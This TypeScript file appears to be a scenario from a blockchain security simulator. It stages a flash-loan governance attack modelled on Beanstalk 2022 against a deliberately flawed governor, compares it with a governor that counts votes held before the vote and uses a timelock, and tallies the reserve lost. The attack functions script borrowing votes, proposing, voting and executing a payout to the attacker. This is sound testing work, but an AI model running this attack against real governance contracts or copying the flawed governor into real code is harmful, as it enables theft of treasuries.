import * as FlashLender from '@cutwater/contracts/generated/FlashLender.ts'
import * as FlashVoteAttacker from '@cutwater/contracts/generated/FlashVoteAttacker.ts'
import * as FlashVoteGovernor from '@cutwater/contracts/generated/FlashVoteGovernor.ts'
import * as GovernanceToken from '@cutwater/contracts/generated/GovernanceToken.ts'
import * as Reserve from '@cutwater/contracts/generated/Reserve.ts'
import * as TestToken from '@cutwater/contracts/generated/TestToken.ts'
import type { Address } from 'viem'
import * as Governance from '../beside/Governance.ts'
import { coinOf, unitsOfDollars, usdOf } from '../bridge/Coins.ts'
import { balanceOf } from '../bridge/gap.ts'
import * as Chain from '../chain/Chain.ts'
import type { Scenario, Stage } from './Scenario.ts'
import { dollarsBetween } from './steal.ts'

/** How many votes are to be had on loan: enough to decide anything. */
const lent = 900_000n * 10n ** 18n

/** The scenario with votes that are only borrowed, or kept until they are counted. */
export const voteWith = (held: 'borrowed' | 'kept'): Scenario => ({
  name: 'flash-loan-vote',
  incident: 'Beanstalk 2022 (no bridge), Shibarium 2025 (stake bought for the moment)',
  says: 'Borrowed votes propose, decide and pay out the reserve, and are given back in the same transaction.',
  steps: 'single',
  visibleBefore: false,
  deceived: false,
  limitedBy:
    'votes counted as they were held before the vote, time to vote, and the timelock. Whoever buys the votes and keeps them is only slowed down, in public',
  prepare: async (stage) => {
    const reserve = await (stage.side === 'on' ? deploySound(stage) : deployFlawed(stage))
    stage.notes.set('reserve', reserve)
    await Governance.endow(stage, reserve)
    await stage.nextBlock()
  },
  observe: async ({ world, notes }, place, block) =>
    place === 'north' ? Governance.readProposals(world, governanceOf(notes).governor, block) : [],
  attack: (stage) => (stage.side === 'on' ? borrowAndVote(stage, held) : flash(stage)),
  lostUsd: async ({ world, twin, notes }) => {
    const reserve = notes.get('reserve') as Address
    const left = await balanceOf(world, 'north', twin.ends.north.tokens.USD, reserve)
    return usdOf(coinOf('USD'), unitsOfDollars(coinOf('USD'), Governance.reserveDollars) - left)
  },
})

export const flashLoanVote: Scenario = voteWith('borrowed')

async function deployFlawed({ world, notes }: Stage): Promise<Address> {
  const north = world.chains.north
  const from = world.accounts.deployer.address
  const token = await Chain.deploy(north, from, { ...TestToken, args: ['Votes', 'VOTE', 18] })
  const lender = await Chain.deploy(north, from, FlashLender)
  const governor = await Chain.deploy(north, from, { ...FlashVoteGovernor, args: [token] })
  const reserve = await Chain.deploy(north, from, { ...Reserve, args: [governor] })
  const { abi } = TestToken
  const shares = [
    [lender, lent],
    [world.accounts.voter.address, Governance.allVotes - lent],
  ] as const
  for (const args of shares)
    await Chain.send(north, from, Chain.call(token, { abi, functionName: 'mint', args }))
  const args = [lender, governor] as const
  const attacker = world.accounts.attacker.address
  notes.set('borrower', await Chain.deploy(north, attacker, { ...FlashVoteAttacker, args }))
  return reserve
}

// The same votes to be had on loan, under a governor that asks who held them before.
async function deploySound(stage: Stage): Promise<Address> {
  const { lp, voter } = stage.world.accounts
  const governance = await Governance.deploy(stage, [
    [lp.address, lent],
    [voter.address, Governance.allVotes - lent],
  ])
  stage.notes.set('governance', governance)
  return governance.reserve
}

async function flash(stage: Stage): Promise<void> {
  const { world, notes } = stage
  const args = [notes.get('reserve') as Address, Governance.payOut(stage, proposalOf(stage))] as const
  const attack = { abi: FlashVoteAttacker.abi, functionName: 'attack', args } as const
  const call = Chain.call(notes.get('borrower') as Address, attack)
  await Chain.send(world.chains.north, world.accounts.attacker.address, call)
  await stage.nextBlock()
}

// More than a flash loan gives: the votes are lent for two blocks, long enough to propose with them.
async function borrowAndVote(stage: Stage, held: 'borrowed' | 'kept'): Promise<void> {
  const { world, notes } = stage
  const { attacker, lp } = world.accounts
  const north = world.chains.north
  const governance = governanceOf(notes)
  const { token } = governance
  const { abi } = GovernanceToken
  const move = (to: Address) => Chain.call(token, { abi, functionName: 'transfer', args: [to, lent] })
  const delegate = Chain.call(token, { abi, functionName: 'delegate', args: [attacker.address] })
  const { propose, vote, queue, execute } = await Governance.callsOf(stage, governance, proposalOf(stage))
  const wait = async (blocks: number) => {
    for (let block = 0; block < blocks; block++) await stage.nextBlock()
  }
  await Chain.send(north, lp.address, move(attacker.address))
  await wait(1)
  await Chain.send(north, attacker.address, delegate)
  await wait(1)
  await Chain.send(north, attacker.address, propose)
  if (held === 'borrowed') await Chain.send(north, attacker.address, move(lp.address))
  await wait(Governance.delays.beforeVote + 2)
  await Chain.send(north, attacker.address, vote)
  await wait(Governance.delays.vote + 1)
  await Chain.send(north, attacker.address, queue)
  await wait(Governance.delays.timelock + 1)
  await Chain.send(north, attacker.address, execute)
  await wait(1)
}

function proposalOf({ world, rng }: Stage): Governance.Proposal {
  const amount = unitsOfDollars(coinOf('USD'), dollarsBetween(rng, 1_000_000, Governance.reserveDollars))
  return { to: world.accounts.attacker.address, amount, description: 'Pay what the reserve owes' }
}

function governanceOf(notes: Stage['notes']): Governance.Governance {
  return notes.get('governance') as Governance.Governance
}
